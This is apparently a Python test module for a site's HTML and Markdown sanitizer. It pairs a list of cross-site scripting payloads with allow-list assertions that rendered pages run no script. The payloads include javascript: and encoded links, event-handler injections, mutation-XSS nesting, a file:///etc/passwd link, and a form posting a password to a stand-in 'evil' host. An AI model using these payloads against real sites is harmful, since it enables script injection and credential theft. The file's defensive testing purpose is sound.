"""Texts that try to bring a script into a page, and what tells whether one of them did."""

import re
from html.parser import HTMLParser

# Ways to bring a script into a page, as they were found in many sites over the years.
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](http://a "onmouseover=alert(1)")',
    '[x](http://a "\\"><script>alert(1)</script>")',
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](http://a)',
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onload=alert(1)\ny\n```",
    "`<script>alert(1)</script>`",
    "<style>@import 'http://evil'</style>",
    "<base href=http://evil>",
    "<meta http-equiv=refresh content=0;url=http://evil>",
    "<form action=http://evil><input name=password>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=http://a hx-on:click=alert(1) hx-get=/x>x</a>",
    "<div hx-get=/x hx-trigger=load>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "@ada<script>alert(1)</script>",
    '|a|\n|:-:" onclick=alert(1)|\n|b|',
    "\u2028<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
]
ALLOWED = {
    *("p", "br", "hr", "blockquote", "pre", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *("a", "abbr", "b", "strong", "i", "em", "s", "del", "sub", "sup", "code", "kbd"),
}
ALLOWED_ATTRIBUTES = {"href", "title", "class", "rel", "start", "tabindex"}
FORM_ACTION = re.compile(r"/[a-z0-9/-]+/(?:\?at=[tl])?")  # where buttons of the site's own forms lead


class _Reader(HTMLParser):
    """Reads HTML as a browser would, and notes what is in it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    """Assert that HTML has nothing in it but what a text of a member may have."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert set(reader.tags) <= ALLOWED
    for name, value in reader.attributes:
        assert name in ALLOWED_ATTRIBUTES
        if name == "href":
            low = "".join(value.split()).lower()
            assert low.startswith(("http://", "https://", "mailto:", "/", "#", "?")) or ":" not in low


def assert_no_script(page: str) -> None:
    """Assert that the content of a whole page, with its forms and pictures of the site, runs nothing."""
    reader = _Reader()
    reader.feed(page.partition("<main")[2])
    reader.close()
    assert not {"script", "iframe", "object", "embed", "img", "base", "meta", "style"} & set(reader.tags)
    for name, value in reader.attributes:
        assert not name.startswith("on"), (name, value)
        assert name not in ("style", "srcdoc"), (name, value)
        if name == "formaction":
            assert FORM_ACTION.fullmatch(value), (name, value)
        if name in ("href", "action", "src"):
            assert not "".join(value.split()).lower().startswith(("javascript:", "vbscript:", "data:")), (name, value)
